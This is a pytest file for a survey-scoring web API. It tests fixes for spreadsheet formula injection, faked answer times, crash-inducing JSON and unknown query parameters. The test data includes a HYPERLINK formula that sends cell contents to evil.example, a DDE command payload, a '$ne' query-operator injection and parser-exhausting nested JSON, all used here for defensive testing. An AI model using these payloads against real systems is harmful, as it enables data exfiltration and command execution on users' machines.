"""Hostile input from the outside review (issue 12, items 5, 7, 9 and part of 10).

Each test fails on the code before the fix: spreadsheet formulas in exports, anomaly
flags dodged by faked answer times, server errors on hostile input, unknown query
parameters ignored.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime, timedelta, timezone

import numpy as np
import pytest
from openpyxl import load_workbook

from scoring_service.reports.exports import csv_cell
from scoring_service.seeding.demo import demo_communities, seed_demo

from .conftest import COMMUNITIES, ROUND, inspection, survey

R = "/api/v1/rounds/r2018"
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


def assert_json_error(r, code: int) -> dict:
    assert r.status_code == code, r.get_data(as_text=True)[:500]
    assert r.mimetype == "application/json"
    body = r.get_json()
    assert body["code"] == code and isinstance(body["message"], str)
    return body


def count(app) -> int:
    return app.extensions["scoring"].store.count_responses("r2018", include_voided=True)


# -- item 5: spreadsheet formula injection ----------------------------------------------------

FORMULA_NAMES = {"evil-eq": EVIL, "evil-plus": "+1+cmd|' /C calc'!A0", "evil-minus": "-2+3", "evil-at": "@SUM(A1:A9)",
                 "evil-tab": "\t=1+1", "evil-cr": "\r=1+1"}


@pytest.fixture
def evil_world(client, keys, world):
    admin = keys.header("admin")
    for community_id, name in FORMULA_NAMES.items():
        body = {**COMMUNITIES[0], "community_id": community_id, "name_zh": name}
        assert client.put(f"/api/v1/communities/{community_id}", json=body, headers=admin).status_code == 201
    return keys


def export(client, keys, fmt: str, path: str = "rankings/communities"):
    r = client.get(f"{R}/{path}?format={fmt}", headers=keys.header("leadership"))
    assert r.status_code == 200, r.get_data(as_text=True)[:500]
    return r


def test_xlsx_writes_every_text_cell_as_text(client, evil_world):
    r = export(client, evil_world, "xlsx")
    sheet = load_workbook(io.BytesIO(r.data)).active
    cells = {row[2].value: row[3] for row in sheet.iter_rows(min_row=2)}  # 小区编号 → 小区名称
    for community_id, name in FORMULA_NAMES.items():
        cell = cells[community_id]
        # (XML reads a stored CR back as LF)
        assert cell.value == name.replace("\r", "\n") and cell.data_type == "s", community_id
    assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]


def test_a_control_character_in_a_name_does_not_fail_the_xlsx_export(client, keys, world):
    body = {**COMMUNITIES[0], "community_id": "ctl", "name_zh": "控制\x07字符"}
    assert client.put("/api/v1/communities/ctl", json=body, headers=keys.header("admin")).status_code == 201
    sheet = load_workbook(io.BytesIO(export(client, keys, "xlsx").data)).active
    assert {row[2].value: row[3].value for row in sheet.iter_rows(min_row=2)}["ctl"] == "控制\ufffd字符"


def test_csv_escapes_cells_a_spreadsheet_would_evaluate(client, evil_world):
    r = export(client, evil_world, "csv")
    rows = list(csv.reader(io.StringIO(r.data.decode("utf-8-sig"))))
    names = {row[2]: row[3] for row in rows[1:]}
    for community_id, name in FORMULA_NAMES.items():
        assert names[community_id] == "'" + name, community_id
    assert names["heping-001"] == "南湖小区"  # ordinary text as it was
    assert r.headers["Content-Type"] == "text/csv; charset=utf-8"  # the charset named once (item 10)


def test_csv_keeps_numbers_numbers():
    assert csv_cell(-3) == -3 and csv_cell(-0.5) == -0.5
    assert csv_cell("-12.50") == "-12.50" and csv_cell("-7") == "-7"  # text that is just a number
    assert csv_cell("-1+1") == "'-1+1" and csv_cell("=1") == "'=1" and csv_cell("a=1") == "a=1"


# -- item 7: anomaly flags on the server's clock, answer times inside the round -----------------

@pytest.mark.parametrize("submitted_at, says", [
    ("1900-01-01T00:00:00+08:00", "before the round opens"),
    ("2018-08-31T23:59:59+08:00", "before the round opens"),
    ("2018-10-01T00:00:00+08:00", "after the round closes"),
])
def test_submitted_at_outside_the_round_window_is_422(client, keys, world, app, submitted_at, says):
    r = client.post(f"{R}/surveys", json=survey(submitted_at=submitted_at), headers=keys.header("kiosk_1"))
    body = assert_json_error(r, 422)
    assert says in body["errors"]["submitted_at"][0]
    r = client.post(f"{R}/surveys/batch", json={"responses": [survey(submitted_at=submitted_at)]},
                    headers=keys.header("kiosk_1"))
    item = r.get_json()["results"][0]
    assert item["status"] == "invalid" and "submitted_at" in item["errors"]
    assert count(app) == 0
    edges = [survey(submitted_at="2018-09-01T00:00:00+08:00"), survey(submitted_at="2018-09-30T23:59:59+08:00")]
    r = client.post(f"{R}/surveys/batch", json={"responses": edges}, headers=keys.header("kiosk_1"))
    assert r.get_json()["created"] == 2  # both ends of the window are inside it


def anomalies(client, keys) -> dict:
    r = client.get(f"{R}/evidence/anomalies", headers=keys.header("admin"))
    assert r.status_code == 200, r.get_json()
    return r.get_json()


def test_faked_spread_out_answer_times_in_one_batch_are_a_burst_on_any_channel(client, keys, world):
    start = datetime(2018, 9, 10, 8, 0, tzinfo=timezone.utc)
    stuffed = [survey(answers={"roads": 1 + i % 5, "water": 1 + (i + 2) % 5}, overall=1 + i % 3,
                      submitted_at=(start + timedelta(minutes=17 * i)).isoformat(), channel=channel)
               for i, channel in enumerate(["door_to_door"] * 10 + ["paper"] * 10)]
    r = client.post(f"{R}/surveys/batch", json={"responses": stuffed}, headers=keys.header("kiosk_1"))
    assert r.get_json()["created"] == 20
    bursts = anomalies(client, keys)["bursts"]
    flagged = {rid for b in bursts if b["key_id"] == keys.ids["kiosk_1"] for rid in b["responses"]}
    assert {s["response_id"] for s in stuffed} == flagged


def test_same_answers_received_together_are_duplicates_whatever_their_answer_times(client, keys, world):
    twin = {"answers": {"roads": 3, "water": 2, "lighting": 4}, "overall": 2}
    first = survey(**twin, submitted_at="2018-09-11T08:00:00+08:00")
    second = survey(**twin, submitted_at="2018-09-12T18:00:00+08:00")  # a day and a half "later"
    client.post(f"{R}/surveys/batch", json={"responses": [first, second]}, headers=keys.header("kiosk_1"))
    pairs = [d["response_ids"] for d in anomalies(client, keys)["duplicates"]]
    assert sorted([first["response_id"], second["response_id"]]) in [sorted(p) for p in pairs]


def test_forms_an_administrator_types_in_together_are_not_flagged(client, keys, world):
    forms = [survey(answers={"roads": 3, "water": 2, "lighting": 4}, overall=3, channel="paper",
                    submitted_at=f"2018-09-{10 + i // 5}T09:{i % 5}0:00+08:00") for i in range(20)]
    r = client.post(f"{R}/surveys/batch", json={"responses": forms}, headers=keys.header("admin"))
    assert r.get_json()["created"] == 20
    body = anomalies(client, keys)
    assert body["bursts"] == [] and body["duplicates"] == []


def test_demo_data_is_not_flagged_as_received_in_one_burst(client, keys, world, app):
    s = app.extensions["scoring"]
    communities = demo_communities(np.random.default_rng(2018))[:4]
    s.store.put_communities(communities)
    counts = seed_demo(s, s.store.get_round("r2018"), s.rubric("shenyang-2018"), communities)
    assert counts["responses"] > 300
    body = anomalies(client, keys)
    assert body["bursts"] == [] and body["duplicates"] == []


# -- item 9: hostile input is a JSON 4xx, never a 500 -----------------------------------------

def post_raw(client, url: str, data: str, headers: dict):
    return client.post(url, data=data, headers={**headers, "Content-Type": "application/json"})


@pytest.mark.parametrize("data", [
    '{"overall": ' + "9" * 4301 + "}",     # int() refuses more than 4300 digits
    "[" * 50_000 + "]" * 50_000,            # RecursionError in the parser
    '{"a": ' * 50_000 + "1" + "}" * 50_000,
    '{"responses": ' + "[" * 40 + "]" * 40 + "}",  # parses, but deeper than any body of the API
    '{"response_id": ',                     # plain syntax error, as before
])
def test_json_bodies_that_cannot_be_read_are_400(client, keys, world, app, data):
    for url in (f"{R}/surveys", f"{R}/surveys/batch"):
        body = assert_json_error(post_raw(client, url, data, keys.header("kiosk_1")), 400)
        assert "json" in body["errors"] and "Invalid JSON body" in body["message"]
    assert count(app) == 0


LONE_SURROGATE_BODIES = [  # (method, url, raw JSON with an escaped lone surrogate, the field named)
    ("post", f"{R}/surveys", json.dumps(survey(comment="好\ud800"), ensure_ascii=True), "comment"),
    ("post", f"{R}/surveys/batch", json.dumps({"responses": [survey(), survey(comment="\udfff")]}), "responses.1.comment"),
    ("put", "/api/v1/districts/heping", r'{"name_zh": "\ud800", "name_en": "Heping"}', "name_zh"),
    ("post", "/api/v1/keys", r'{"role": "admin", "name": "\udc00x"}', "name"),
    ("put", f"{R}/communities/heping-001/milestones/plan_approved",
     r'{"reached_on": "2018-04-01", "note": "\ud83d"}', "note"),
    ("post", f"{R}/surveys", r'{"\ud800": 1}', "json"),
]


@pytest.mark.parametrize("method, url, data, field", LONE_SURROGATE_BODIES)
def test_a_lone_surrogate_escape_is_400_naming_the_field(client, keys, world, app, method, url, data, field):
    """JSON may escape a lone UTF-16 surrogate; it parses, but no UTF-8 text holds it: hashing the record
    raised UnicodeEncodeError (a 500) on every write. Refused before anything is written or audited."""
    audit_before = len(client.get("/api/v1/audit?limit=1000", headers=keys.header("admin")).get_json()["items"])
    r = getattr(client, method)(url, data=data, headers={**keys.header("admin"), "Content-Type": "application/json"})
    body = assert_json_error(r, 400)
    assert field in body["errors"] and "surrogate" in body["errors"][field][0]
    assert count(app) == 0
    districts = client.get("/api/v1/districts", headers=keys.header("admin")).get_json()["items"]
    assert {d["district_id"]: d["name_zh"] for d in districts}["heping"] == "和平区"
    items = client.get("/api/v1/audit?limit=1000", headers=keys.header("admin")).get_json()["items"]
    assert len(items) <= audit_before + 1  # at most the refusal itself


def test_a_surrogate_pair_is_one_character_and_accepted(client, keys, world, app):
    data = json.dumps(survey(comment="笑😀"), ensure_ascii=True)  # 😀 written as the pair \ud83d\ude00
    assert "\\ud83d\\ude00" in data
    r = client.post(f"{R}/surveys", data=data, headers={**keys.header("kiosk_1"), "Content-Type": "application/json"})
    assert r.status_code == 201 and r.get_json()["comment"] == "笑😀"


def test_normal_nesting_still_parses(client, keys, world):
    r = post_raw(client, f"{R}/surveys/batch", json.dumps({"responses": [survey()]}), keys.header("kiosk_1"))
    assert r.status_code == 200 and r.get_json()["created"] == 1


FAR_PAST = "0001-01-01T00:00:00+14:00"  # no UTC equivalent: datetime.astimezone overflows


def test_times_without_a_utc_equivalent_are_422_naming_the_field(client, keys, world, app):
    r = client.post(f"{R}/surveys", json=survey(submitted_at=FAR_PAST), headers=keys.header("kiosk_1"))
    assert "submitted_at" in assert_json_error(r, 422)["errors"]
    r = client.post(f"{R}/surveys", json=survey(submitted_at="9999-12-31T23:59:59-14:00"),
                    headers=keys.header("kiosk_1"))
    assert "submitted_at" in assert_json_error(r, 422)["errors"]
    body = inspection(COMMUNITIES[0], inspected_at=FAR_PAST)
    r = client.post(f"{R}/inspections", json=body, headers=keys.header("agency_a"))
    assert "inspected_at" in assert_json_error(r, 422)["errors"]
    r = client.post("/api/v1/rounds", json={**ROUND, "round_id": "far", "opens_at": FAR_PAST},
                    headers=keys.header("admin"))
    assert "opens_at" in assert_json_error(r, 422)["errors"]
    r = client.get("/api/v1/audit", query_string={"since": FAR_PAST}, headers=keys.header("admin"))
    assert "since" in assert_json_error(r, 422)["errors"]
    assert count(app) == 0


@pytest.mark.parametrize("url, field", [
    ("/api/v1/communities?renovation_year=99999999999999999999999", "renovation_year"),
    ("/api/v1/communities?renovation_year=-5", "renovation_year"),
    ("/api/v1/audit?after_seq=99999999999999999999999", "after_seq"),
    ("/api/v1/audit?after_seq=9223372036854775808", "after_seq"),
])
def test_integer_query_arguments_have_ranges(client, keys, world, url, field):
    assert field in assert_json_error(client.get(url, headers=keys.header("admin")), 422)["errors"]


def test_largest_after_seq_is_an_empty_page(client, keys, world):
    r = client.get("/api/v1/audit?after_seq=9223372036854775807", headers=keys.header("admin"))
    assert r.status_code == 200 and r.get_json()["items"] == []


def test_ids_with_a_trailing_newline_are_refused(client, keys, world, app):
    admin = keys.header("admin")
    r = client.post("/api/v1/rounds", json={**ROUND, "round_id": "r2018x\n"}, headers=admin)
    assert "round_id" in assert_json_error(r, 422)["errors"]
    community = {k: v for k, v in COMMUNITIES[0].items() if k != "community_id"}
    assert_json_error(client.put("/api/v1/communities/c-1%0A", json=community, headers=admin), 422)
    assert_json_error(client.put("/api/v1/agencies/agency-c%0A", json={"name": "丙"}, headers=admin), 422)
    assert_json_error(client.put("/api/v1/districts/dadong%0A", json={"name_zh": "大东区", "name_en": "Dadong"},
                                 headers=admin), 422)
    r = client.post("/api/v1/communities/import", json=[{**COMMUNITIES[0], "community_id": "c-2\n"}], headers=admin)
    assert "community_id" in assert_json_error(r, 422)["errors"]["0"]
    r = client.post(f"{R}/surveys", json=survey(community_id="heping-001\n"), headers=admin)
    assert "community_id" in assert_json_error(r, 422)["errors"]
    store = app.extensions["scoring"].store
    assert store.get_round("r2018x\n") is None and store.get_community("c-2\n") is None
    assert store.get_agency("agency-c\n") is None and store.get_district("dadong\n") is None


CSV_HEADER = "community_id,name_zh,district_id,households,renovation_year,has_elevator,heating_retrofit\n"


@pytest.mark.parametrize("households", ["9" * 5000, "²", "1e3"])
def test_csv_import_with_numbers_int_cannot_read_is_422(client, keys, world, app, households):
    r = client.post("/api/v1/communities/import", data=f"{CSV_HEADER}c-9,九号院,heping,{households},2018,1,0\n",
                    headers={**keys.header("admin"), "Content-Type": "text/csv"})
    assert "households" in assert_json_error(r, 422)["errors"]["0"]
    assert app.extensions["scoring"].store.get_community("c-9") is None


def test_csv_import_still_reads_full_width_digits(client, keys, world, app):
    r = client.post("/api/v1/communities/import", data=f"{CSV_HEADER}c-9,九号院,heping,１２０,２０１８,1,0\n",
                    headers={**keys.header("admin"), "Content-Type": "text/csv"})
    assert r.status_code == 200, r.get_json()
    assert app.extensions["scoring"].store.get_community("c-9")["households"] == 120


# -- item 10: unknown query parameters ----------------------------------------------------------

ENDPOINTS = [  # (method, path): every kind of endpoint, with and without declared query arguments
    ("GET", "/api/v1/communities"),
    ("GET", "/api/v1/rounds"),
    ("GET", f"{R}"),
    ("GET", "/api/v1/keys"),
    ("GET", "/api/v1/audit"),
    ("GET", "/api/v1/districts"),
    ("GET", f"{R}/rankings/communities"),
    ("GET", f"{R}/rankings/districts"),
    ("GET", f"{R}/rewards"),
    ("GET", f"{R}/communities/heping-001/score"),
    ("GET", f"{R}/evidence/anomalies"),
    ("POST", f"{R}/surveys"),
]


def test_unknown_query_parameters_are_422_on_every_endpoint(client, keys, world, app):
    for method, path in ENDPOINTS:
        kwargs = {"json": survey()} if method == "POST" else {}
        r = client.open(f"{path}?district_id[$ne]=x", method=method, headers=keys.header("admin"), **kwargs)
        body = assert_json_error(r, 422)
        assert body["errors"] == {"district_id[$ne]": ["Unknown field."]}, (path, body)
    assert count(app) == 0


def test_declared_query_parameters_still_work(client, keys, world):
    lead = keys.header("leadership")
    r = client.get("/api/v1/communities?district_id=heping&renovation_year=2018", headers=lead)
    assert r.status_code == 200 and {c["community_id"] for c in r.get_json()["items"]} == {"heping-001", "heping-002"}
    for query in ("format=csv", "format=xlsx", "uncertainty=1&draws=10&seed=3", "district_id=heping&format=json"):
        assert client.get(f"{R}/rankings/communities?{query}", headers=lead).status_code == 200, query
    assert client.get(f"{R}/rankings/districts?uncertainty=true&draws=10", headers=lead).status_code == 200
    assert client.get(f"{R}/rewards?format=csv", headers=lead).status_code == 200
    assert client.get("/api/v1/audit?limit=5&after_seq=0", headers=keys.header("admin")).status_code == 200
